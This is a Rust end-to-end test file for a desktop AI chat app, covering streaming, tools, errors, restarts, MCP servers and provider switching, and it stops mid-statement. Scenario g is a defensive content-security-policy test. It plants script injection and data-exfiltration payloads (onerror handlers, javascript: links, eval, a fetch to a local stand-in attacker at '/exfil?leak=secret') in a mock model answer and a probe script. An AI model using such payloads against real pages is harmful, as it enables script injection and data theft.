//! End-to-end scenarios of the real desktop app under a display, over WebDriver.
//!
//! Each test: a mock provider with a scripted reply list, a fresh data directory whose default
//! provider points at it, tauri-driver with that directory in its environment, and one or more app
//! sessions. Screenshots of each step go to `tests/artifacts/e2e/<scenario>-<step>.png`.
//!
//! Without a display, tauri-driver, WebKitWebDriver or the app binary the tests print why and
//! pass; with `SWITCHBOARD_E2E=1` they fail instead. Run them one at a time:
//! `xvfb-run -a -s "-screen 0 1280x800x24" env SWITCHBOARD_E2E=1 cargo test -p switchboard-e2e -- --test-threads=1`
//! (or `scripts/e2e.sh`, which builds the UI and the app first).

use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use std::time::{Duration, Instant};
use switchboard_e2e::{App, DataDir, Driver, Part, Prereqs, ShownMessage, js_str, tid};
use switchboard_mock_provider::{MockServer, Reply, Script, Step, StreamOptions};
use switchboard_store::{MessageStatus, Role};

const LONG: Duration = Duration::from_secs(30);

/// Driver, data dir and mock of one test. Fields drop in declaration order: the driver (and with
/// it every app and WebKit process) first, then the data dir they wrote to, then the mock.
struct Rig {
    driver: Driver,
    data: DataDir,
    mock: MockServer,
}

async fn rig(name: &str, replies: Vec<Reply>) -> Result<Option<Rig>> {
    let Some(pre) = Prereqs::require(name) else { return Ok(None) };
    let mock = MockServer::start(Script::new(replies)).await;
    let data = DataDir::new(&mock.base_url())?;
    let driver = Driver::start(&pre, &data).await?;
    Ok(Some(Rig { driver, data, mock }))
}

/// A streamed reply whose text arrives `chars` characters at a time, `delay_ms` apart.
fn slow(steps: Vec<Step>, chars: usize, delay_ms: u64) -> Reply {
    Reply::stream(steps).with_options(StreamOptions {
        text_chunk_chars: Some(chars),
        chunk_delay_ms: Some(delay_ms),
        ..StreamOptions::default()
    })
}

fn assistant_status_js(n: usize) -> String {
    format!(
        "const ms = document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]'); \
         const m = ms[{i}]; return ms.length === {n} && m && m.dataset.status !== 'streaming' ? m.dataset.status : null;",
        i = n - 1
    )
}

/// Waits until the `n`th assistant message (1-based) has left `streaming`; returns its status.
async fn wait_assistant_settled(app: &App, n: usize, timeout: Duration) -> Result<String> {
    let v = app.wait_for(&format!("assistant message #{n} to finish"), &assistant_status_js(n), timeout).await?;
    Ok(v.as_str().unwrap_or_default().to_owned())
}

fn last_assistant(t: &[ShownMessage]) -> Result<&ShownMessage> {
    t.iter().rev().find(|m| m.role == "assistant").context("no assistant message on screen")
}

/// No error boundary, no empty page, the composer still there.
async fn assert_not_blank(app: &App) -> Result<()> {
    let v = app
        .js(
            &format!(
                "return {{ fatal: !!document.querySelector('.fatal, [role=\"alert\"] h1'), \
                 text: document.body.innerText.trim().length, composer: !!document.querySelector('{}') }};",
                tid("composer-input")
            ),
            vec![],
        )
        .await?;
    ensure!(v["fatal"] == json!(false), "the UI shows its fatal error screen: {v}");
    ensure!(v["composer"] == json!(true), "the composer is gone: {v}");
    ensure!(v["text"].as_u64().unwrap_or(0) > 50, "the window is (nearly) blank: {v}");
    Ok(())
}

// ----- a. streaming text, a tool card where the call was made, the final answer --------------

const A_BEFORE: &str = "Checking the clock for you ⏰ — 東京の現在時刻を確認します 🙂";
const A_AFTER: &str = "Tokyo is nine hours ahead of UTC 🗾 — 以上です";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streaming_text_tool_card_and_final_answer() -> Result<()> {
    let replies = vec![
        // ~2 s of text, 2 characters per event.
        slow(
            vec![
                Step::text(A_BEFORE),
                Step::tool_call("call_time", "get_time", r#"{"timezone":"Asia/Tokyo"}"#),
                Step::finish("tool_calls"),
                Step::usage(12, 20),
                Step::Done,
            ],
            2,
            90,
        ),
        slow(vec![Step::text(A_AFTER), Step::finish("stop"), Step::usage(30, 12), Step::Done], 3, 60),
    ];
    let Some(rig) = rig("a_streaming", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("a").await?;
    app.screenshot("1-empty").await?;

    app.send_message("What time is it in Tokyo?").await?;

    // Poll the DOM while the text streams: some of it must be visible before all of it.
    let before_chars = A_BEFORE.chars().count();
    let deadline = Instant::now() + LONG;
    let mut partial = None;
    while Instant::now() < deadline {
        let t = app.transcript().await?;
        if let Some(m) = t.iter().rev().find(|m| m.role == "assistant") {
            let shown = m.text();
            let n = shown.chars().count();
            if m.status == "streaming" && n > 0 && n < before_chars && m.cards().is_empty() {
                ensure!(A_BEFORE.starts_with(&shown), "streamed text {shown:?} is not a prefix of {A_BEFORE:?}");
                app.screenshot("2-streaming").await?;
                partial = Some(shown);
                break;
            }
            if !m.cards().is_empty() || m.status != "streaming" {
                break;
            }
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let partial = partial.context("never saw partial text on screen while the answer streamed")?;

    app.wait_for(
        "the get_time tool card with status ok",
        &format!(
            "return !!document.querySelector('{}[data-tool-name=\"get_time\"][data-status=\"ok\"]');",
            tid("tool-card")
        ),
        LONG,
    )
    .await?;
    app.screenshot("3-tool-card").await?;

    let status = wait_assistant_settled(&app, 1, LONG).await?;
    app.screenshot("4-final").await?;
    ensure!(status == "complete", "the answer ended as {status}");

    let t = app.transcript().await?;
    ensure!(t.len() == 2, "expected a question and an answer, got {t:#?}");
    ensure!(t[0].role == "user" && t[0].text() == "What time is it in Tokyo?", "the question: {:#?}", t[0]);
    let answer = &t[1];
    ensure!(
        answer.parts
            == vec![
                Part::Text { text: A_BEFORE.to_owned() },
                Part::Card { name: "get_time".into(), status: "ok".into(), offset: before_chars.to_string() },
                Part::Text { text: A_AFTER.to_owned() },
            ],
        "the answer is not [text before the call, the card, the final text]: {answer:#?}"
    );
    ensure!(answer.text_before_first_card() == A_BEFORE, "text before the card: {answer:#?}");
    assert_not_blank(&app).await?;

    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let tool_msg = requests[1].messages().iter().find(|m| m["role"] == "tool").cloned();
    ensure!(tool_msg.is_some(), "the second request carries no tool result: {}", requests[1].body);
    eprintln!("a: partial text seen while streaming: {partial:?}");
    app.close().await?;
    Ok(())
}

// ----- b. forcing a tool from the tools tray --------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn b_force_tool_from_tray() -> Result<()> {
    let replies = vec![Reply::tool_call("call_1", "get_time", "{}"), Reply::text("It is noon somewhere.")];
    let Some(rig) = rig("b_force", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("b").await?;

    app.click(&tid("tools-tray-toggle")).await?;
    let force = format!("{}[data-tool-name=\"get_time\"] {}", tid("tool-row"), tid("tool-force"));
    app.wait_and_click(&force, LONG).await?;
    app.wait_for(
        "the get_time force toggle to be on and its chip shown",
        &format!(
            "const b = document.querySelector({}); return !!b && b.getAttribute('aria-pressed') === 'true' && \
             !!document.querySelector('[data-testid=\"forced-chip\"][data-tool-name=\"get_time\"]');",
            js_str(&force)
        ),
        Duration::from_secs(10),
    )
    .await?;
    app.screenshot("1-forced-in-tray").await?;

    app.send_message("Tell me the time").await?;
    let status = wait_assistant_settled(&app, 1, LONG).await?;
    app.screenshot("2-answered").await?;
    ensure!(status == "complete", "the answer ended as {status}");

    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let first = &requests[0].body;
    ensure!(requests[0].tool_names() == ["get_time"], "first request offered {:?}", requests[0].tool_names());
    ensure!(
        first["tool_choice"] == json!({ "type": "function", "function": { "name": "get_time" } }),
        "first request's tool_choice does not name get_time: {}",
        first["tool_choice"]
    );
    // Forcing applies to the first iteration only.
    ensure!(
        requests[1].body["tool_choice"] != first["tool_choice"],
        "the second request is forced too: {}",
        requests[1].body
    );
    // And the chip is gone: forcing is for the next message only.
    let chips = app.js("return document.querySelectorAll('[data-testid=\"forced-chip\"]').length;", vec![]).await?;
    ensure!(chips == json!(0), "forced chips left after sending: {chips}");
    app.close().await?;
    Ok(())
}

// ----- c. disabling a tool for this chat ------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c_disable_tool_for_chat() -> Result<()> {
    let replies = vec![Reply::text("Hello there."), Reply::text("I cannot look the time up in this chat.")];
    let Some(rig) = rig("c_disable", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("c").await?;

    app.send_message("Hello").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "first answer failed");
    let offered = rig.mock.requests()[0].tool_names();
    ensure!(offered.iter().any(|n| n == "get_time"), "get_time was not offered at first: {offered:?}");

    app.click(&tid("tools-tray-toggle")).await?;
    let disable = format!("{}[data-tool-name=\"get_time\"] {}", tid("tool-row"), tid("tool-disable"));
    app.wait_and_click(&disable, LONG).await?;
    app.wait_for(
        "get_time to be off for this chat",
        &format!(
            "const b = document.querySelector({}); return !!b && b.getAttribute('aria-pressed') === 'true';",
            js_str(&disable)
        ),
        Duration::from_secs(10),
    )
    .await?;
    app.screenshot("1-disabled-in-tray").await?;

    app.send_message("What time is it?").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "second answer failed");
    app.screenshot("2-answered-without-tool").await?;

    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let offered = requests[1].tool_names();
    ensure!(!offered.iter().any(|n| n == "get_time"), "get_time still offered after disabling it: {offered:?}");
    if offered.is_empty() {
        ensure!(
            requests[1].body.get("tool_choice").is_none_or(Value::is_null),
            "tool_choice without tools: {}",
            requests[1].body
        );
    }
    app.close().await?;

    // Remembered with the chat.
    let store = rig.data.open_store()?;
    let conv = store.conversations()?.into_iter().next().context("no conversation stored")?;
    ensure!(store.disabled_tools(&conv.id)?.contains("get_time"), "the chat does not remember get_time is off");
    Ok(())
}

// ----- d. stopping mid-stream -----------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn d_stop_mid_stream_keeps_partial_answer() -> Result<()> {
    let full: String = (1..=160).map(|i| format!("part{i}")).collect::<Vec<_>>().join(" ");
    let replies =
        vec![slow(vec![Step::text(full.clone()), Step::finish("stop"), Step::usage(10, 160), Step::Done], 6, 50)];
    let Some(rig) = rig("d_stop", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("d").await?;

    app.send_message("Count for me").await?;
    app.wait_for(
        "some streamed text",
        "const m = [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]')].pop(); \
         return !!m && m.dataset.status === 'streaming' && m.innerText.trim().length >= 40;",
        LONG,
    )
    .await?;
    app.screenshot("1-streaming").await?;
    app.click(&tid("stop-button")).await?;
    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "cancelled", "the stopped answer is marked {status}");
    let t1 = app.transcript().await?;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let t2 = app.transcript().await?;
    app.screenshot("2-stopped").await?;
    ensure!(t1 == t2, "the answer changed after it was stopped:\n{t1:#?}\n{t2:#?}");

    let shown = last_assistant(&t2)?.text();
    ensure!(!shown.is_empty(), "the partial answer vanished");
    ensure!(
        full.starts_with(&shown) && shown.len() < full.len(),
        "shown text is not a strict prefix of the reply: {shown:?}"
    );
    let badge = app
        .js("const m = [...document.querySelectorAll('[data-testid=\"message\"][data-role=\"assistant\"]')].pop(); return m.innerText;", vec![])
        .await?;
    ensure!(badge.as_str().unwrap_or_default().contains("Stopped"), "no 'Stopped' marker on the message: {badge}");
    app.wait_composer_ready(Duration::from_secs(5)).await?;
    assert_not_blank(&app).await?;
    app.close().await?;

    let store = rig.data.open_store()?;
    let conv = store.conversations()?.into_iter().next().context("no conversation stored")?;
    let messages = store.messages(&conv.id)?;
    let stored = messages.iter().rev().find(|m| m.role == Role::Assistant).context("no stored answer")?;
    ensure!(stored.status == MessageStatus::Cancelled, "stored status is {:?}", stored.status);
    ensure!(
        stored.content.trim() == shown,
        "stored text {:?} differs from the text on screen {shown:?}",
        stored.content
    );
    ensure!(full.starts_with(stored.content.as_str()), "stored text is not a prefix of the reply");
    Ok(())
}

// ----- e. restart: the conversation looks the same -------------------------------------------

const E_BEFORE: &str = "Let me look that up 🔎 — 少々お待ちください";
const E_AFTER: &str = "Done ✅ The time is in the card above — 完了しました";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e_restart_shows_the_same_conversation() -> Result<()> {
    let replies = vec![
        slow(
            vec![
                Step::text(E_BEFORE),
                Step::tool_call("call_e", "get_time", r#"{"timezone":"Europe/Paris"}"#),
                Step::finish("tool_calls"),
                Step::usage(12, 20),
                Step::Done,
            ],
            4,
            20,
        ),
        Reply::text(E_AFTER),
    ];
    let Some(rig) = rig("e_restart", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("e").await?;
    app.send_message("Time in Paris, please").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the answer failed");
    let live = app.transcript().await?;
    app.screenshot("1-live").await?;
    let answer = last_assistant(&live)?;
    ensure!(
        answer.text_before_first_card() == E_BEFORE
            && answer.cards() == [("get_time", "ok", E_BEFORE.chars().count().to_string().as_str())],
        "live answer is not as streamed: {answer:#?}"
    );
    app.close().await?;

    // A new app process on the same data directory.
    let app = rig.driver.launch("e").await?;
    app.screenshot("2-restarted").await?;
    let item = format!("{} button.open", tid("conversation-item"));
    app.wait_and_click(&item, LONG).await?;
    app.wait_for(
        "the reopened conversation",
        &format!(
            "return document.querySelectorAll('[data-testid=\"message\"]').length === {} && !!document.querySelector('{}');",
            live.len(),
            tid("tool-card")
        ),
        LONG,
    )
    .await?;
    let reopened = app.transcript().await?;
    app.screenshot("3-reopened").await?;
    ensure!(
        reopened == live,
        "the reopened conversation differs from the live one:\nlive: {live:#?}\nreopened: {reopened:#?}"
    );
    // The Markdown engine loads on first use (this is the new process's first chat): the messages
    // come rendered, never as pending text, and the chat opens at its end.
    let opened = app
        .js(
            "const ms = document.querySelectorAll('[data-testid=\"message\"]'); \
             const r = ms[ms.length - 1].getBoundingClientRect(); \
             return { pending: document.querySelectorAll('.markdown-pending').length, lastInView: r.bottom > 0 && r.top < innerHeight };",
            vec![],
        )
        .await?;
    ensure!(opened == json!({ "pending": 0, "lastInView": true }), "the reopened chat: {opened}");
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- f. errors: the kind in words, nothing lost ---------------------------------------------

const F_FIRST: &str = "The first answer stays on screen.";
const F_PARTIAL: &str = "These words arrived before the failure";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f_errors_show_their_kind_and_lose_nothing() -> Result<()> {
    let replies = vec![
        Reply::text(F_FIRST),
        Reply::http(
            401,
            r#"{"error":{"message":"Incorrect API key provided: sk-e2e***.","type":"invalid_request_error","code":"invalid_api_key"}}"#,
        ),
        slow(vec![Step::text(F_PARTIAL), Step::ErrorObject { message: "upstream exploded".into(), code: None }], 8, 30),
    ];
    let Some(rig) = rig("f_errors", replies).await? else { return Ok(()) };
    let app = rig.driver.launch("f").await?;

    app.send_message("First question").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer failed");
    let before = app.transcript().await?;

    // 401 before any output.
    app.send_message("Second question").await?;
    let status = wait_assistant_settled(&app, 2, LONG).await?;
    app.screenshot("1-auth-error").await?;
    ensure!(status == "error", "the 401 answer is marked {status}");
    let t = app.transcript().await?;
    ensure!(t.len() == 4, "expected 4 messages, got {t:#?}");
    ensure!(t[..2] == before[..], "earlier messages changed after the error:\n{before:#?}\n{t:#?}");
    ensure!(t[2].role == "user" && t[2].text() == "Second question", "the question that failed is gone: {:#?}", t[2]);
    let err = t[3].error.clone().unwrap_or_default();
    ensure!(
        err.contains("The provider rejected the API key"),
        "the error does not say what went wrong in words: {err:?}"
    );
    ensure!(!err.contains("sk-e2e-test"), "the error shows the key: {err:?}");
    assert_not_blank(&app).await?;

    // A stream that fails after some text: the text stays, with the error under it.
    app.send_message("Third question").await?;
    let status = wait_assistant_settled(&app, 3, LONG).await?;
    app.screenshot("2-mid-stream-error").await?;
    ensure!(status == "error", "the failed stream is marked {status}");
    let t2 = app.transcript().await?;
    ensure!(t2.len() == 6, "expected 6 messages, got {t2:#?}");
    ensure!(t2[..4] == t[..], "earlier messages changed after the second error");
    ensure!(t2[5].text() == F_PARTIAL, "the partial text was lost: {:#?}", t2[5]);
    ensure!(
        t2[5]
            .error
            .as_deref()
            .is_some_and(|e| e.contains("The provider had a server error") && e.contains("upstream exploded")),
        "the mid-stream error does not say what happened: {:#?}",
        t2[5]
    );
    assert_not_blank(&app).await?;
    app.close().await?;

    let store = rig.data.open_store()?;
    let conv = store.conversations()?.into_iter().next().context("no conversation stored")?;
    let stored: Vec<_> = store.messages(&conv.id)?.into_iter().filter(|m| m.role == Role::Assistant).collect();
    ensure!(stored.len() == 3, "stored answers: {}", stored.len());
    ensure!(stored[1].status == MessageStatus::Error && stored[2].status == MessageStatus::Error, "stored statuses");
    ensure!(stored[2].content == F_PARTIAL, "stored partial text: {:?}", stored[2].content);
    Ok(())
}

// ----- g. the content security policy of the shipped UI -------------------------------------

/// A local server standing in for an attacker's: counts every connection it gets.
struct Tripwire {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Tripwire {
    async fn start() -> Result<Tripwire> {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await?;
        let port = listener.local_addr()?.port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = hits.clone();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let mut request = [0u8; 4096];
                let _ = socket.read(&mut request).await;
                // Anything asked for "works": the page must refuse it, not the server.
                let body = "window.__csp_remote = 1;";
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = socket.write_all(reply.as_bytes()).await;
            }
        });
        Ok(Tripwire { port, hits })
    }

    fn base(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Tries every way in that the CSP must close, from inside the running page, and reports what
/// ran, what loaded and which violations the page saw.
const G_PROBE: &str = r#"
const done = arguments[arguments.length - 1];
const base = arguments[0];
const violations = [];
document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective || e.violatedDirective));
const add = (src, text) => { const s = document.createElement('script'); if (src) s.src = src; if (text) s.textContent = text; document.head.append(s); };
add(null, 'window.__csp_inline = 1;');
add('data:text/javascript,window.__csp_data%20%3D%201%3B');
add(URL.createObjectURL(new Blob(['window.__csp_blob = 1;'], { type: 'text/javascript' })));
add(base + '/remote.js');
let evalError = null;
try { (0, eval)('window.__csp_eval = 1;'); } catch (e) { evalError = String(e); }
try { new Function('window.__csp_function = 1;')(); } catch (e) { evalError = evalError || String(e); }
const handler = document.createElement('div');
handler.setAttribute('onclick', 'window.__csp_handler = 1;');
document.body.append(handler);
handler.click();
const img = new Image();
let imgState = 'pending';
img.onload = () => { imgState = 'loaded'; };
img.onerror = () => { imgState = 'blocked'; };
img.src = base + '/pixel.png?leak=secret';
let fetchState = 'pending';
fetch(base + '/exfil?leak=secret').then(() => { fetchState = 'sent'; }, () => { fetchState = 'blocked'; });
const frame = document.createElement('iframe');
frame.src = base + '/frame';
document.body.append(frame);
setTimeout(() => {
  frame.remove();
  handler.remove();
  done({
    ran: ['inline', 'data', 'blob', 'remote', 'eval', 'function', 'handler'].filter((k) => window['__csp_' + k]),
    evalError, imgState, fetchState, violations,
  });
}, 1500);
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn g_content_security_policy_blocks_injected_code_and_remote_loads() -> Result<()> {
    let trip = Tripwire::start().await?;
    let base = trip.base();
    // An answer that tries the Markdown ways of loading something remote.
    let hostile = format!(
        "Harmless text.\n\n![pixel]({base}/md.png?leak=secret)\n\n<img src=\"{base}/raw.png\" onerror=\"window.__csp_md = 1\">\n\n\
         [click me](javascript:window.__csp_md=1) and <script>window.__csp_md = 1</script>"
    );
    let Some(rig) = rig("g_csp", vec![Reply::text(&hostile)]).await? else { return Ok(()) };
    let app = rig.driver.launch("g").await?;
    app.send_message("Show me something").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the answer failed");
    app.painted().await?;
    app.screenshot("1-hostile-markdown").await?;
    let md_ran = app.js("return !!window.__csp_md;", vec![]).await?;
    ensure!(md_ran == json!(false), "script in a model's answer ran");

    let report = app.js_async(G_PROBE, vec![json!(base)]).await?;
    eprintln!("g: {report}");
    ensure!(report["ran"] == json!([]), "code the CSP must block ran: {report}");
    ensure!(report["evalError"].is_string(), "eval is allowed: {report}");
    ensure!(report["imgState"] == json!("blocked"), "a remote image loaded: {report}");
    ensure!(report["fetchState"] == json!("blocked"), "a request to a remote host went out: {report}");
    let violations: Vec<&str> =
        report["violations"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    for directive in ["script-src", "img-src", "connect-src"] {
        ensure!(
            violations.iter().any(|v| v.starts_with(directive)),
            "no {directive} violation reported: {violations:?}"
        );
    }
    ensure!(trip.hits() == 0, "the page reached the outside server {} time(s)", trip.hits());
    assert_not_blank(&app).await?;
    app.screenshot("2-after-probe").await?;
    app.close().await?;
    Ok(())
}

// ----- h. the window comes back where it was left -------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn h_window_size_and_position_are_remembered() -> Result<()> {
    let Some(rig) = rig("h_window", vec![]).await? else { return Ok(()) };
    let app = rig.driver.launch("h").await?;
    let first = app.client().get_window_rect().await.map_err(|e| anyhow::anyhow!("window rect: {e}"))?;
    let (x, y, w, h) = (64, 48, 1000, 640);
    app.client().set_window_rect(x, y, w, h).await.map_err(|e| anyhow::anyhow!("setting the window rect: {e}"))?;
    let set = app
        .wait_for(
            "the window to take the new size",
            &format!("return window.outerWidth === {w} && window.outerHeight === {h} ? [window.screenX, window.screenY] : null;"),
            LONG,
        )
        .await?;
    eprintln!("h: window at first {first:?}, then {w}x{h} at {set}");
    app.screenshot("1-resized").await?;
    // Saved soon after the change, not only on a clean exit: ending the session kills the app.
    let state = rig.data.path().join("xdg/config/dev.switchboard.Switchboard/.window-state.json");
    let deadline = Instant::now() + Duration::from_secs(10);
    let saved = loop {
        let saved: Value = std::fs::read(&state).ok().and_then(|b| serde_json::from_slice(&b).ok()).unwrap_or_default();
        if saved["main"]["width"] == json!(w) && saved["main"]["height"] == json!(h) {
            break saved;
        }
        ensure!(Instant::now() < deadline, "no window state for {w}x{h} at {} after 10 s: {saved}", state.display());
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    eprintln!("h: saved {saved}");
    app.close().await?;

    let app = rig.driver.launch("h").await?;
    let again = app.client().get_window_rect().await.map_err(|e| anyhow::anyhow!("window rect: {e}"))?;
    app.screenshot("2-reopened").await?;
    eprintln!("h: reopened at {again:?}");
    ensure!((again.2, again.3) == (u64::from(w), u64::from(h)), "size not restored: {again:?}, expected {w}x{h}");
    ensure!(
        (Some(again.0), Some(again.1)) == (set[0].as_u64(), set[1].as_u64()),
        "position not restored: {again:?}, expected {set}"
    );
    assert_not_blank(&app).await?;
    app.close().await?;
    Ok(())
}

// ----- i. an MCP server: ready in Settings, its tool in a chat, its image on the card ----------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn i_mcp_server_tool_with_an_image() -> Result<()> {
    let Some(pre) = Prereqs::require("i_mcp") else { return Ok(()) };
    let mock = MockServer::start(Script::new(vec![
        Reply::tool_call("call_logo", "every__get-tiny-image", "{}"),
        Reply::text("That is the MCP logo."),
    ]))
    .await;
    let data = DataDir::new(&mock.base_url())?;
    let everything = switchboard_e2e::repo_root().join("node_modules/.bin/mcp-server-everything");
    ensure!(everything.exists(), "{} is missing: run scripts/setup.sh", everything.display());
    // The data dir as a last argument (the server ignores it) finds this test's server process.
    let marker = data.path().display().to_string();
    data.add_mcp_server(
        "every",
        switchboard_mcp::ServerConfig {
            command: Some(everything.display().to_string()),
            args: vec!["stdio".into(), marker.clone()],
            ..Default::default()
        },
    )?;
    let driver = Driver::start(&pre, &data).await?;
    let rig = Rig { driver, data, mock };
    let app = rig.driver.launch("i").await?;

    // Settings -> MCP servers: the server started in the background and is ready with its tools.
    app.click(&tid("open-settings")).await?;
    app.wait_and_click(&tid("settings-nav-mcp"), LONG).await?;
    app.wait_for(
        "the MCP server to be ready",
        &format!(
            "return !!document.querySelector('{}[data-name=\"every\"][data-state=\"ready\"]');",
            tid("mcp-server")
        ),
        LONG,
    )
    .await?;
    let tools = app
        .js(
            &format!("return [...document.querySelectorAll('{}')].map(t => t.dataset.toolName);", tid("mcp-tool")),
            vec![],
        )
        .await?;
    ensure!(tools.as_array().is_some_and(|t| t.contains(&json!("every__get-tiny-image"))), "tools listed: {tools}");
    app.screenshot("1-settings-mcp-ready").await?;
    app.click(&tid("close-settings")).await?;

    // A chat: the model calls the server's tool, which asks first (another program's tool); the
    // card names the server and shows the image.
    app.send_message("Show me the MCP logo").await?;
    app.wait_for(
        "the approval dialog for the MCP tool",
        &format!("return !!document.querySelector('{} .btn.primary');", tid("approval-dialog")),
        LONG,
    )
    .await?;
    app.screenshot("2-mcp-approval").await?;
    app.click(&format!("{} .btn.primary", tid("approval-dialog"))).await?;
    app.wait_for(
        "the image on the MCP tool card, decoded",
        &format!(
            "const img = document.querySelector('{}[data-tool-name=\"every__get-tiny-image\"][data-status=\"ok\"] {} img'); \
             return !!img && img.complete && img.naturalWidth > 0;",
            tid("tool-card"),
            tid("tool-images")
        ),
        LONG,
    )
    .await?;
    let status = wait_assistant_settled(&app, 1, LONG).await?;
    ensure!(status == "complete", "the answer ended as {status}");
    let label = app
        .js(
            &format!(
                "return document.querySelector('{}[data-tool-name=\"every__get-tiny-image\"] .source').textContent;",
                tid("tool-card")
            ),
            vec![],
        )
        .await?;
    ensure!(label == json!("MCP: every"), "the card's source label: {label}");
    app.screenshot("3-mcp-image-card").await?;
    assert_not_blank(&app).await?;

    let requests = rig.mock.requests();
    ensure!(requests.len() == 2, "the mock got {} requests", requests.len());
    let tool_msg = requests[1].messages().iter().find(|m| m["role"] == "tool").cloned().unwrap_or_default();
    ensure!(
        tool_msg["content"].as_str().is_some_and(|c| c.contains("[image: image/png")),
        "the model is told about the image: {tool_msg}"
    );

    // Quitting the app stops the server: no process of it is left.
    ensure!(!server_processes(&marker).is_empty(), "the server's process is not found while the app runs");
    app.close().await?;
    let closed = Instant::now();
    let deadline = closed + Duration::from_secs(15);
    let mut left = server_processes(&marker);
    while !left.is_empty() && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(100)).await;
        left = server_processes(&marker);
    }
    ensure!(left.is_empty(), "the MCP server outlived the app: {left:?}");
    Ok(())
}

// ----- j. one conversation across two APIs, and Test connection ------------------------------

/// Chooses the first model of profile `provider` in the composer's picker.
async fn pick_provider(app: &App, provider: &str) -> Result<()> {
    let picked = app
        .js(
            &format!(
                "const s = document.querySelector('{}'); \
                 const o = [...s.options].find(o => o.value.startsWith({} + '\\u0000')); \
                 if (!o) return null; s.value = o.value; s.dispatchEvent(new Event('change', {{ bubbles: true }})); return o.value;",
                tid("model-picker"),
                js_str(provider)
            ),
            vec![],
        )
        .await?;
    ensure!(picked.is_string(), "the picker offers no model of '{provider}'");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn j_one_conversation_across_two_apis_and_test_connection() -> Result<()> {
    let replies = vec![
        Reply::text("First, from the Chat Completions API."),
        Reply::reasoning_then_text("The person switched to me mid-conversation.", "Second, from Claude — 続きです."),
        Reply::text("Third, back on Chat Completions."),
        // Test connection's tiny request.
        Reply::text("OK"),
    ];
    let Some(rig) = rig("j_switch", replies).await? else { return Ok(()) };
    rig.data.open_store()?.upsert_provider(&switchboard_store::ProviderProfile {
        name: "claude".into(),
        kind: "anthropic".into(),
        base_url: rig.mock.base_url(),
        model: Some("claude-sonnet-4-5".into()),
        options: switchboard_store::ProfileOptions {
            generation: switchboard_core::GenerationOptions { thinking_budget: Some(2048), ..Default::default() },
            ..Default::default()
        },
    })?;
    let app = rig.driver.launch("j").await?;

    app.send_message("Hello there").await?;
    ensure!(wait_assistant_settled(&app, 1, LONG).await? == "complete", "the first answer did not complete");
    pick_provider(&app, "claude").await?;
    app.send_message("And you, Claude?").await?;
    ensure!(wait_assistant_settled(&app, 2, LONG).await? == "complete", "the answer on Claude did not complete");
    pick_provider(&app, switchboard_e2e::PROVIDER).await?;
    app.send_message("Back to the first one").await?;
    ensure!(wait_assistant_settled(&app, 3, LONG).await? == "complete", "the third answer did not complete");
    app.screenshot("1-three-answers-two-apis").await?;

    let shown = app.transcript().await?;
    let answers: Vec<String> = shown.iter().filter(|m| m.role == "assistant").map(ShownMessage::text).collect();
    ensure!(answers.len() == 3 && answers[1].contains("Second, from Claude"), "answers on screen: {answers:?}");
    let requests = rig.mock.requests();
    let paths: Vec<&str> = requests.iter().map(|r| r.path.as_str()).collect();
    ensure!(
        paths == ["/v1/chat/completions", "/v1/messages", "/v1/chat/completions"],
        "each answer went to its profile's API: {paths:?}"
    );
    // Claude saw the first answer; the Chat API saw Claude's, without its signed thinking.
    ensure!(requests[1].body.to_string().contains("First, from the Chat Completions API."), "{:#}", requests[1].body);
    ensure!(requests[1].body["thinking"]["budget_tokens"] == json!(2048), "{:#}", requests[1].body);
    let third = requests[2].body.to_string();
    ensure!(third.contains("Second, from Claude") && !third.contains("signature"), "{third}");
    // Each answer's footer names the profile that gave it, beside the model.
    let footers = app
